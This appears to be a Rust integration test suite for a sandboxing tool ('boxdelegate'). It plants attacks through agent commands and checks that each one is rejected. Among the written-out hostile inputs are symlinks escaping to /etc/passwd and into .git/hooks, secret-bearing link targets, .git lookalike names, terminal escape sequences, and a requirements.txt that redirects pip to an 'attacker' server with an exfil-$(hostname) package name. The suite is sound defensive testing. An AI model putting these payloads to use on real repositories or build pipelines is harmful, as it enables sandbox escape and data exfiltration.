//! Every byte that leaves the box is data, checked as git and a checkout will read it: symlink
//! chains resolved through each other, links into `.git`, a secret as a link target, trees git
//! itself refuses or warns about. Each attack is planted by a command agent; nothing lands, the
//! host repository is byte-identical, no canary outside the tree is read, and the host
//! repository's `git fsck --strict` stays clean.

use crate::common::*;

/// Runs `agent` as unit `id` (scope `calc/**` and the top-level dot files) with `env` passed to
/// it; returns the unit's result after asserting nothing landed and the host is as it was.
fn refused(salt: &str, agent: &str, env: &[(&str, &str)], extra: &str) -> serde_json::Value {
    let repo = TestRepo::with_project(salt);
    repo.write("calc/calc.sh", "add() { echo $(($1 + $2)); }\n");
    repo.write(
        "boxdelegate.toml",
        &format!(
            "[project]\nprofile = \"test\"\n\n[agent]\nretries = 0\nkind = \"command\"\ncommand = {}\n{extra}\n\n[run]\ninfra_retries = 0\n",
            toml_string(agent)
        ),
    );
    repo.unit(
        "attack",
        "scope = [\"calc/**\", \".gitmodules\", \".gitattributes\", \".mailmap\", \".gitignore\", \"git~1/**\", \"**/config\"]",
        "Work on calc.",
    );
    repo.commit("project");
    let before = repo.host_state();
    let (code, units, err) = repo.run_with(&["--unit", "attack"], env);
    let u = units[0].clone();
    assert_eq!(code, 10, "{err}\n{u}");
    assert_eq!(u["status"], "rejected", "{u}");
    assert_eq!(
        repo.host_state()
            .lines()
            .filter(|l| !l.starts_with(".git/boxdelegate"))
            .collect::<Vec<_>>(),
        before
            .lines()
            .filter(|l| !l.starts_with(".git/boxdelegate"))
            .collect::<Vec<_>>(),
        "the host repository is as it was (but boxdelegate's own state)"
    );
    assert!(
        repo.git(&["branch", "--list", "boxdelegate/attack"])
            .is_empty(),
        "nothing landed"
    );
    let fsck = std::process::Command::new("git")
        .args(["-C"])
        .arg(repo.path())
        .args(["fsck", "--strict", "--no-dangling"])
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .output()
        .unwrap();
    assert!(
        fsck.status.success() && !String::from_utf8_lossy(&fsck.stderr).contains("warning"),
        "git fsck --strict of the host repository: {}",
        stderr(&fsck)
    );
    u
}

fn messages(u: &serde_json::Value, rule: &str) -> Vec<String> {
    u["rejections"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["rule"] == rule)
        .map(|r| {
            format!(
                "{}: {}",
                r["path"].as_str().unwrap(),
                r["message"].as_str().unwrap()
            )
        })
        .collect()
}

#[test]
fn a_symlink_chain_that_leaves_the_tree_through_another_link_is_rejected_naming_the_chain() {
    require_base_image();
    let u = refused(
        "trust-chain",
        "ln -s .. calc/up; ln -s up/calc/up/calc/up/../../etc/passwd calc/esc",
        &[],
        "",
    );
    let m = messages(&u, "symlink-escape");
    assert!(
        m.iter().any(|m| m.starts_with("calc/esc: ")
            && m.contains("leaves the repository")
            && m.contains("calc/up -> ..")),
        "{m:?}"
    );
}

#[test]
fn symlinks_into_git_metadata_are_rejected() {
    require_base_image();
    let u = refused(
        "trust-dotgit",
        "ln -s ../.git calc/meta; ln -s ../.git/hooks calc/hooks; ln -s .. calc/root; ln -s root/.git/config calc/cfg",
        &[],
        "",
    );
    let m = messages(&u, "symlink-escape");
    for link in ["calc/meta", "calc/hooks", "calc/cfg"] {
        assert!(
            m.iter()
                .any(|m| m.starts_with(&format!("{link}: ")) && m.contains("enters .git")),
            "{link}: {m:?}"
        );
    }
}

#[test]
fn a_secret_as_a_symlink_target_is_rejected_and_written_nowhere() {
    require_base_image();
    let secret = format!("tok-{}-canary", std::process::id());
    let u = refused(
        "trust-secret-link",
        "ln -s \"$BD_TEST_SECRET\" calc/leak",
        &[("BD_TEST_SECRET", &secret)],
        "env = [\"BD_TEST_SECRET\"]",
    );
    assert!(
        crate::common::rejection_rules(&u).contains(&"secret".to_string()),
        "{u}"
    );
    assert!(u["patch"].is_null(), "no patch is written: {u}");
    assert!(!u.to_string().contains(&secret), "{u}");
}

#[test]
fn trees_git_refuses_or_warns_about_are_rejected_with_gits_message_id() {
    require_base_image();
    for (salt, agent, ids) in [
        (
            "trust-fsck-links",
            "ln -s calc/calc.sh .gitmodules; ln -s calc/calc.sh .gitattributes; ln -s calc/calc.sh .mailmap",
            &["gitmodulesSymlink", "gitattributesSymlink", "mailmapSymlink"][..],
        ),
        (
            "trust-fsck-ntfs",
            "mkdir -p 'git~1'; echo '[core]' > 'git~1/config'",
            &["hasDotgit"][..],
        ),
        (
            "trust-fsck-hfs",
            "d=\"$(printf '.g\\342\\200\\214it')\"; mkdir -p \"$d\"; echo '[core]' > \"$d/config\"",
            &["hasDotgit"][..],
        ),
    ] {
        let u = refused(salt, agent, &[], "");
        let m = messages(&u, "git-fsck");
        for id in ids {
            assert!(
                m.iter().any(|m| m.contains(&format!("git fsck {id}"))),
                "{salt}: {id}: {u}"
            );
        }
    }
}

#[test]
fn the_agents_output_is_bounded_on_the_host_and_reaches_no_terminal_raw() {
    require_base_image();
    let repo = TestRepo::with_project("trust-flood");
    // 7 MiB of lines, a 1 MiB line without a newline (below the engine's own 10 MiB log cap, which
    // would rotate under a follower), then terminal sequences: OSC 52 (the
    // clipboard), a screen clear, a window title, and a last line.
    repo.agent(
        "echo FIRST LINE; head -c 7340032 /dev/zero | tr '\\0' 'a' | fold -w 1000; head -c 1048576 /dev/zero | tr '\\0' 'b'; echo; printf '\\033]52;c;cHduZWQ=\\007\\033[2J\\033]0;owned\\007\\n'; echo THE END; echo done >> src/lib.txt",
    );
    repo.unit("flood", "scope = [\"src/**\"]", "Write a lot.");
    repo.commit("project");
    let out = repo
        .cmd()
        .args(["-v", "run", "--unit", "flood"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    for (what, bytes) in [
        ("run -v stdout", &out.stdout),
        ("run -v stderr", &out.stderr),
    ] {
        assert!(!bytes.contains(&0x1b), "{what} carries a raw escape");
    }
    let shown = stderr(&out);
    assert!(
        shown.contains("\\x1b]52;c;"),
        "made visible instead: {}",
        shown
            .lines()
            .filter(|l| !l.contains("aaaa") && !l.contains("bbbb"))
            .collect::<Vec<_>>()
            .join("\n")
    );

    let log = std::fs::read_dir(repo.path().join(".git/boxdelegate/runs"))
        .unwrap()
        .flatten()
        .next()
        .unwrap()
        .path()
        .join("flood/attempt-1/agent.log");
    let text = std::fs::read(&log).unwrap();
    assert!(
        text.len() < 5 * 1024 * 1024 + 64 * 1024,
        "agent.log is capped: {} bytes",
        text.len()
    );
    let text = String::from_utf8_lossy(&text);
    assert!(text.starts_with("FIRST LINE\n"), "the head is kept");
    assert!(text.trim_end().ends_with("THE END"), "the tail is kept");
    assert!(text.contains("bytes of output left out here"), "a marker");
    assert!(text.contains("[boxdelegate: line cut at 65536 bytes]"));

    let logs = repo.cmd().args(["logs", "flood"]).output().unwrap();
    assert!(logs.status.success(), "{}", stderr(&logs));
    assert!(!logs.stdout.contains(&0x1b), "logs prints no raw escape");
    assert!(stdout(&logs).contains("\\x1b]0;owned\\x07"));
}

/// A web server in a container of the test's own, on the engine's default network (where
/// dependency installs run), logging each request; removed on drop.
struct Attacker {
    name: String,
    ip: String,
}

impl Attacker {
    fn start(salt: &str) -> Attacker {
        let name = format!("bd-attacker-{salt}-{}", std::process::id());
        let _ = docker(&["rm", "-f", &name]);
        docker(&[
            "run",
            "-d",
            "--name",
            &name,
            "--label",
            "boxdelegate.test=attacker",
            "boxdelegate/python:bookworm",
            "python3",
            "-m",
            "http.server",
            "8000",
        ]);
        let ip = docker(&[
            "inspect",
            "-f",
            "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}",
            &name,
        ])
        .trim()
        .to_string();
        assert!(!ip.is_empty());
        Attacker { name, ip }
    }

    fn requests(&self) -> String {
        let out = std::process::Command::new("docker")
            .args(["logs", &self.name])
            .output()
            .unwrap();
        format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
        .lines()
        .filter(|l| l.contains("\"GET ") || l.contains("\"POST "))
        .collect::<Vec<_>>()
        .join("\n")
    }
}

impl Drop for Attacker {
    fn drop(&mut self) {
        let _ = std::process::Command::new("docker")
            .args(["rm", "-f", &self.name])
            .output();
    }
}

#[test]
fn a_manifest_that_redirects_the_dependency_install_is_rejected_and_reaches_no_server() {
    require_base_image();
    let attacker = Attacker::start("index");
    let repo = TestRepo::empty();
    repo.write("app.py", "print('hi')\n");
    repo.write(
        "boxdelegate.toml",
        &format!(
            "[project]\nprofile = \"python\"\n\n[agent]\nretries = 0\nkind = \"command\"\ncommand = {}\n\n[run]\ninfra_retries = 0\n\n[verify]\ntest = \"echo 1 passed, 0 failed\"\nlint = \"\"\ntypecheck = \"\"\n",
            toml_string(&format!(
                "printf -- '--index-url http://{}:8000/simple/\\nexfil-$(hostname)==1.0\\n' > requirements.txt; echo '# pip.conf too' > pip.conf",
                attacker.ip
            ))
        ),
    );
    repo.unit(
        "exfil",
        "scope = [\"requirements.txt\", \"pip.conf\", \"app.py\"]",
        "Add a dependency.",
    );
    repo.commit("project");
    let refs = repo.refs();
    let (code, units, err) = repo.run(&["--unit", "exfil"]);
    let u = &units[0];
    assert_eq!(code, 10, "{err}\n{u}");
    let m = messages(u, "dependency-source");
    assert!(
        m.iter()
            .any(|m| m.starts_with("requirements.txt: ") && m.contains("--index-url http://")),
        "{m:?}"
    );
    assert!(m.iter().any(|m| m.starts_with("pip.conf: ")), "{m:?}");
    assert_eq!(repo.refs(), refs, "nothing landed");
    assert_eq!(
        attacker.requests(),
        "",
        "the attacker's server heard nothing"
    );
}

#[test]
fn no_diagnostic_level_prints_a_secret() {
    require_base_image();
    let secret = format!("sk-diag-{}-canary", std::process::id());
    let repo = TestRepo::with_project("trust-diagnostics");
    repo.write(
        "boxdelegate.toml",
        "[project]\nprofile = \"test\"\n\n[agent]\nretries = 0\nkind = \"command\"\nenv = [\"BD_TEST_SECRET\"]\ncommand = '''echo working; echo more >> src/lib.txt'''\n\n[run]\ninfra_retries = 0\n",
    );
    repo.unit("diag", "scope = [\"src/**\"]", "Work.");
    repo.commit("project");
    for (i, (args, rust_log)) in [
        (&["-v"][..], None),
        (&["-vv"][..], None),
        (&[][..], Some("trace")),
        (
            &["-vv", "--log-format", "json"][..],
            Some("debug,bollard=trace"),
        ),
    ]
    .into_iter()
    .enumerate()
    {
        let mut cmd = repo.cmd();
        cmd.args(args)
            .args(["run", "--unit", "diag", "--rerun", "--branch"])
            .arg(format!("diag-{i}"))
            .env("BD_TEST_SECRET", &secret);
        if let Some(l) = rust_log {
            cmd.env("RUST_LOG", l);
        }
        let out = cmd.output().unwrap();
        let all = format!("{}{}", stdout(&out), stderr(&out));
        assert!(out.status.success(), "{args:?} {rust_log:?}: {all}");
        assert!(
            all.lines().count() > 10,
            "{args:?} {rust_log:?}: diagnostics were printed"
        );
        assert!(
            !all.contains(&secret),
            "{args:?} {rust_log:?} printed the secret: {}",
            all.lines()
                .filter(|l| l.contains(&secret))
                .take(3)
                .collect::<Vec<_>>()
                .join("\n")
        );
    }
}

#[test]
fn a_new_link_through_a_link_of_the_snapshot_is_resolved_with_it() {
    require_base_image();
    let repo = TestRepo::with_project("trust-snapshot-link");
    std::os::unix::fs::symlink("..", repo.path().join("src/up")).unwrap();
    std::os::unix::fs::symlink("../README.md", repo.path().join("src/readme")).unwrap();
    repo.agent(
        "if [ \"$BOXDELEGATE_UNIT_ID\" = escape ]; then ln -s up/../../etc/passwd src/esc; else ln -s up/README.md src/doc; fi",
    );
    repo.unit("escape", "scope = [\"src/**\"]", "Link.");
    repo.unit("inside", "scope = [\"src/**\"]", "Link.");
    repo.commit("links");
    // The snapshot's own links stay; a new one through them that stays inside lands.
    let (code, units, err) = repo.run(&["--unit", "inside"]);
    assert_eq!(code, 0, "{err}\n{:?}", units);
    assert_eq!(units[0]["status"], "landed", "{}", units[0]);
    // A new one that leaves the tree through the snapshot's `src/up` does not.
    let (code, units, err) = repo.run(&["--unit", "escape"]);
    let u = &units[0];
    assert_eq!(code, 10, "{err}\n{u}");
    let m = messages(u, "symlink-escape");
    assert!(
        m.iter()
            .any(|m| m.starts_with("src/esc: ") && m.contains("src/up -> ..")),
        "{m:?}"
    );
}

/// A change that edits the dependency manifests is installed with no way out but the egress
/// proxy, which allows the profile's registries alone: the install reaches the listed server,
/// and neither through the proxy nor directly the attacker's, which receives nothing; an
/// install that needed the attacker's server fails, naming what the proxy refused.
#[test]
fn a_changes_dependency_install_reaches_only_the_profiles_registries() {
    require_base_image();
    let servers = crate::attack::Servers::start("registries", &["registry", "attacker"]);
    // The install's proxy reaches out through the engine's default network.
    let default = if on_podman() { "podman" } else { "bridge" };
    let ip = |name: &str| {
        docker(&["network", "connect", default, name]);
        docker(&[
            "inspect",
            "-f",
            &format!("{{{{.NetworkSettings.Networks.{default}.IPAddress}}}}"),
            name,
        ])
        .trim()
        .to_string()
    };
    let (registry, attacker) = (ip(&servers.names[0]), ip(&servers.names[1]));
    assert!(!registry.is_empty() && !attacker.is_empty());
    let repo = TestRepo::with_project("attack-registries");
    repo.write(
        ".boxdelegate/profiles/probe.toml",
        &format!(
            r#"description = "probe: fetches the URLs deps.lock lists"
image = "boxdelegate/python:bookworm"
build = "python"
manifests = ["deps.lock"]
registries = ["{registry}:8000"]
install = '''
python3 - <<'PY'
import sys, urllib.request
direct = urllib.request.build_opener(urllib.request.ProxyHandler({{}}))
failed = []
for line in open("deps.lock").read().split():
    how, _, url = line.partition(":")
    if not url:
        continue
    try:
        (direct.open if how == "direct" else urllib.request.urlopen)(url, timeout=10)
        print("fetched", line)
    except Exception as e:
        print("failed", line, e)
        failed.append(how)
open("/deps/fetched.txt", "w").write("done\n")
sys.exit(1 if "must" in failed else 0)
PY
'''

[checks]
lint = "cat /deps/fetched.txt"
"#
        ),
    );
    repo.write(
        "boxdelegate.toml",
        &format!(
            "[project]\nprofile = \"probe\"\n\n[agent]\nretries = 0\nkind = \"command\"\ncommand = {}\n\n[run]\ninfra_retries = 0\n",
            toml_string(&format!(
                "if [ \"$BOXDELEGATE_UNIT_ID\" = fetch ]; then printf 'must:http://{registry}:8000/ok.txt\\ntry:http://{attacker}:8000/via-proxy\\ndirect:http://{attacker}:8000/direct\\n' >> deps.lock; else echo 'must:http://{attacker}:8000/needed' >> deps.lock; fi"
            ))
        ),
    );
    repo.unit("fetch", "scope = [\"deps.lock\"]", "Add a dependency.");
    repo.unit("needs-attacker", "scope = [\"deps.lock\"]", "Add another.");
    // A manifest of this run's own, so no dependency image of an earlier run (the servers'
    // addresses come again) stands in for the install.
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_nanos();
    repo.write(
        "deps.lock",
        &format!("# run {nanos} {}\n", std::process::id()),
    );
    repo.commit("project");

    let (code, units, err) = repo.run(&["--unit", "fetch"]);
    assert_eq!(code, 0, "{err}\n{units:?}");
    assert_eq!(units[0]["status"], "landed", "{}", units[0]);
    let record: serde_json::Value = serde_json::from_slice(
        &std::fs::read(
            repo.path()
                .join(".git/boxdelegate/verify")
                .join(format!("{}.json", units[0]["record"].as_str().unwrap())),
        )
        .unwrap(),
    )
    .unwrap();
    repo.remember_image(record["change_image"].as_str().unwrap());
    let refs = repo.refs();
    let (code, units, err) = repo.run(&["--unit", "needs-attacker"]);
    let u = &units[0];
    assert_eq!(code, 15, "{err}\n{u}");
    assert_eq!(u["status"], "verify-failed", "{u}");
    let m = u["message"].as_str().unwrap();
    assert!(
        m.contains(&format!(
            "the proxy refused: GET http://{attacker}:8000/needed"
        )) && m.contains(&format!("to the profile's registries ({registry}:8000)")),
        "{m}"
    );
    assert_eq!(repo.refs(), refs, "nothing landed");

    let logs = |name: &str| {
        let out = std::process::Command::new("docker")
            .args(["logs", name])
            .output()
            .unwrap();
        format!("{}{}", stdout(&out), stderr(&out))
    };
    let reg = logs(&servers.names[0]);
    assert!(reg.contains("GET /ok.txt"), "the registry served: {reg}");
    let att = logs(&servers.names[1]);
    assert!(
        !att.contains("GET") && !att.contains("CONNECT"),
        "the attacker's server received nothing: {att}"
    );
    // No proxy of this test's installs is left.
    let left = docker(&[
        "ps",
        "-aq",
        "--filter",
        "label=boxdelegate.kind=proxy",
        "--filter",
        &format!(
            "label=boxdelegate.deps-key={}",
            record["change_deps_key"].as_str().unwrap()
        ),
    ]);
    assert!(left.trim().is_empty(), "{left}");
}
